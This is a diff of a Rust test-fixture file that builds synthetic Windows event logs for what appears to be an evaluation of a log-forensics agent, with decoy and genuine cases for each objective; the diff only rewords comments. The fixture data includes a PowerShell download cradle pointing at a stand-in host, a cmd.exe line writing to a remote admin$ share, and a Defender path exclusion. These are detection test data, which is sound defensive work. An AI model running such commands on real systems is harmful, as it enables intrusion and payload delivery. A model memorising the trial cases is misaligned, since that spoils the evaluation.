@@ -1,4 +1,4 @@
-//! The event log agent: what the computer's logs tell.
+//! The event log agent: what the computer's logs say.
 
 use super::hives::TIME;
 use super::{Folder, Trial, investigated, meeting, shipped};
@@ -22,7 +22,7 @@ pub(super) const TRIALS: &[Trial] = &[
     Trial { objective: "failed-logons", tempting: nothing_refused, answering: refused_logon },
 ];
 
-/// Who writes an event, and where.
+/// The provider of an event and its log.
 struct Writer {
     provider: &'static str,
     guid: Option<&'static str>,
@@ -59,15 +59,15 @@ const POWERSHELL: Writer = Writer {
     guid: Some("{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"),
     channel: "Microsoft-Windows-PowerShell/Operational",
 };
-/// Suppresses repeated events of the COM+ event system, under an id that the audit of logons has, too.
+/// Suppresses repeated events of the COM+ event system, with an event id that is also used for failed logons.
 const EVENT_SYSTEM: Writer = Writer {
     provider: "Microsoft-Windows-EventSystem",
     guid: Some("{899daace-4868-4295-afcd-9eb8fb497561}"),
     channel: "Application",
 };
-/// What `eventcreate` writes under when it is told no source.
+/// The provider that `eventcreate` uses if no source is given.
 const EVENTCREATE: Writer = Writer { provider: "EventCreate", guid: None, channel: "System" };
-/// A program with a source of its own.
+/// A program with its own event source.
 const PROGRAM: Writer = Writer { provider: "Ledgerline", guid: None, channel: "Application" };
 
 type Data<'a> = &'a [(&'a str, &'a str)];
@@ -75,7 +75,7 @@ type Data<'a> = &'a [(&'a str, &'a str)];
 const SID: &str = "S-1-5-21-1004-2004-3004-1001";
 const SYSTEM32: &str = "C:\\Windows\\System32";
 
-/// A log in the place where Windows keeps them, an event each second.
+/// A log in the place where Windows keeps it, with one event per second.
 fn log(at: &Folder<'_>, events: &[(&Writer, u16, Data<'_>)]) {
     let numbered = (1..).zip(events).map(|(record_id, (writer, event_id, data))| Event {
         record_id,
@@ -96,12 +96,12 @@ fn log(at: &Folder<'_>, events: &[(&Writer, u16, Data<'_>)]) {
     at.file(&format!("C/Windows/System32/winevt/Logs/{name}.evtx"), evtx::log(&built));
 }
 
-/// A provider under its name alone, as the old interface lets any program write.
+/// A provider given by name only, as any program can write through the old interface.
 fn imitated(writer: &Writer) -> Writer {
     Writer { guid: None, ..*writer }
 }
 
-/// A log without a record, a text of that name, a folder of that name.
+/// A log without records, a text file with a log's name, and a folder with a log's name.
 fn logs_of_nothing(at: &Folder<'_>) {
     log(at, &[]);
     at.file("C/Windows/System32/winevt/Logs/export/Security.evtx", "Level,Date and Time,Source,Event ID\r\n");
@@ -112,7 +112,7 @@ fn security_log(at: &Folder<'_>) {
     log(at, &[(&SECURITY, 4634, &[("TargetUserName", "mara"), ("LogonType", "3")])]);
 }
 
-/// A log that was only stopped, and the ids of a cleared one from others.
+/// A log that was only stopped, and events with the right ids from other providers.
 fn nothing_cleared(at: &Folder<'_>) {
     log(at, &[(&EVENTLOG, 1100, &[])]);
     let system = Writer { channel: "System", ..imitated(&EVENTLOG) };
@@ -121,7 +121,7 @@ fn nothing_cleared(at: &Folder<'_>) {
     log(at, &[(&PROGRAM, 1102, &[("", "The audit log was cleared.")])]);
 }
 
-/// A service that went on, and a log of System that another program says was cleared.
+/// A service that entered the running state, and a cleared log that a provider under an imitated name reports.
 fn nothing_else_cleared(at: &Folder<'_>) {
     let system = Writer { channel: "System", ..imitated(&EVENTLOG) };
     log(at, &[(&system, 104, &[("Channel", "Application")])]);
@@ -144,7 +144,8 @@ const ACCOUNT: Data<'_> = &[
     ("SubjectUserName", "mara"),
 ];
 
-/// An account that was changed, switched off, given a password, locked; the id of a new one from another.
+/// An account that was changed, disabled, given a password, locked and unlocked, and a creation event
+/// from another provider.
 fn accounts_changed(at: &Folder<'_>) {
     log(at, &[4738, 4725, 4724, 4723, 4740, 4767].map(|id| (&SECURITY, id, ACCOUNT)));
     log(at, &[(&PROGRAM, 4720, ACCOUNT)]);
@@ -163,7 +164,7 @@ fn member(group: &str) -> [(&str, &str); 4] {
     ]
 }
 
-/// A member of the users, one that left the administrators, a new one that another program tells of.
+/// A member of other groups, one removed from the administrators, and an addition that another provider reports.
 fn members_of_others(at: &Folder<'_>) {
     let administrators = member("Administrators");
     let imitated = imitated(&SECURITY);
@@ -191,7 +192,8 @@ fn started<'a>(image: &'a str, line: &'a str) -> [(&'a str, &'a str); 5] {
     ]
 }
 
-/// Windows over a file of a user, what installs itself into profiles, what was only laid down, connected or ended.
+/// A Windows program that opens a user's file, a program that installs itself into profiles, and an odd program that only ended,
+/// was written to disk, or opened a connection, or whose start another provider reports.
 fn programs_in_their_places(at: &Folder<'_>) {
     const ODD: &str = "C:\\Users\\mara\\Downloads\\setup.exe";
     const DRIVE: &str = "C:\\Users\\mara\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe";
@@ -219,7 +221,8 @@ fn program_of_downloads(at: &Folder<'_>) {
     log(at, &[(&SECURITY, 4688, &started("C:\\Users\\mara\\Downloads\\setup.exe", "setup.exe"))]);
 }
 
-/// A harmless line below a telling one, what every start of Windows logs, a key that was only written.
+/// A harmless command whose parent's command line is suspicious, commands of every Windows start, and a Run value
+/// that was written.
 fn commands_that_tell_nothing(at: &Folder<'_>) {
     let [viewer, logon, authority] =
         ["notepad.exe", "winlogon.exe", "lsass.exe"].map(|name| format!("{SYSTEM32}\\{name}"));
@@ -247,13 +250,13 @@ fn commands_that_tell_nothing(at: &Folder<'_>) {
     log(at, &[(&SYSMON, 1, &below), (&SYSMON, 13, &key)]);
 }
 
-/// By a program that is none of those that intruders use, and in its place.
+/// A suspicious command by a program that is not one of the intruders' usual tools and is in its proper place.
 fn telling_command(at: &Folder<'_>) {
     let shell = format!("{SYSTEM32}\\cmd.exe");
     log(at, &[(&SECURITY, 4688, &started(&shell, "cmd.exe /c echo iex(1) > \\\\fin-dc-01\\admin$\\a.txt"))]);
 }
 
-/// Programs whose names only end like those of tools, tools that ended or stand in an argument.
+/// Programs whose names only end like those of tools, and tools that ended or that are mentioned in an argument.
 fn tools_by_name_only(at: &Folder<'_>) {
     let notepad = format!("{SYSTEM32}\\notepad.exe");
     log(
@@ -278,7 +281,7 @@ fn admin_tool(at: &Folder<'_>) {
 const SERVICE: Data<'_> =
     &[("ServiceName", "Updater"), ("ImagePath", "C:\\ProgramData\\update.exe"), ("StartType", "auto start")];
 
-/// A service that was changed, started and ended, a driver of Windows, and new ones that other programs tell of.
+/// A service that was changed, started and terminated, a driver of Windows, and new services that other providers report.
 fn services_that_were_there(at: &Folder<'_>) {
     let driver = [("ServiceName", "luafv"), ("ImagePath", "\\SystemRoot\\system32\\drivers\\luafv.sys")];
     let imitated = imitated(&SERVICES);
@@ -306,7 +309,7 @@ const THREAT: Data<'_> = &[
     ("Action Name", "Quarantine"),
 ];
 
-/// Settings that were changed, a protection that was switched, a threat that another program tells of.
+/// Changed settings, a protection that was switched off, and a threat that another provider reports.
 fn settings_of_defender(at: &Folder<'_>) {
     let product = ("Product Name", "Microsoft Defender Antivirus");
     let excluded = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users = 0x0";
@@ -322,12 +325,12 @@ fn settings_of_defender(at: &Folder<'_>) {
     log(at, &[(&imitated, 1116, THREAT), (&PROGRAM, 1117, THREAT)]);
 }
 
-/// Both objectives have it in a folder of their own.
+/// Two objectives use this, each in its own folder.
 fn detection(at: &Folder<'_>) {
     log(at, &[(&DEFENDER, 1116, THREAT)]);
 }
 
-/// A log of scans that met nothing, and the ids of threats in another log in a folder of Defender's name.
+/// A log of scans that found nothing, and another provider's events with the ids of threats, in a folder named after Defender.
 fn nothing_counted(at: &Folder<'_>) {
     log(at, &[1000, 1001, 1150, 2000].map(|id| (&DEFENDER, id, &[("Product Name", "Defender")] as Data<'_>)));
     let place = Folder { place: at.place, path: format!("{}/Windows Defender", at.path) };
@@ -346,7 +349,7 @@ fn script<'a>(text: &'a str, path: &'a str) -> [(&'a str, &'a str); 5] {
 
 const FETCHING: &str = "(New-Object Net.WebClient).DownloadString('http://a.example/')";
 
-/// A script of a user that does nothing of the kind, and such as belong to programs.
+/// A user's harmless script, and scripts that belong to programs.
 fn scripts_of_programs(at: &Folder<'_>) {
     log(
         at,
@@ -373,7 +376,8 @@ fn logon<'a>(account: &'a str, logon_type: &'a str) -> [(&'a str, &'a str); 5] {
     ]
 }
 
-/// Logons over the network, of services and tasks and of the desktop itself, one that ended, one that another program tells of.
+/// Logons over the network, by tasks and services, and by the desktop itself; a logoff; an attempt with explicit credentials;
+/// and a logon that another provider reports.
 fn logons_of_nobody(at: &Folder<'_>) {
     let imitated = imitated(&SECURITY);
     log(
@@ -395,7 +399,7 @@ fn remote_logon(at: &Folder<'_>) {
     log(at, &[(&SECURITY, 4624, &logon("mara", "10"))]);
 }
 
-/// The id from the event system, a text that says so, a password that was found right, a logon of that address.
+/// The event system's event with this id, a text that says a logon failed, a correct password, and a logon from that address.
 fn nothing_refused(at: &Folder<'_>) {
     log(
         at,
@@ -412,7 +416,7 @@ fn refused_logon(at: &Folder<'_>) {
     log(at, &[(&SECURITY, 4625, &logon("mara", "3"))]);
 }
 
-/// Tools of Windows also stand beside System32.
+/// Windows also has tools outside System32.
 #[test]
 fn a_tool_of_windows_beside_system32_runs_from_no_odd_place() {
     let place = Place::new();
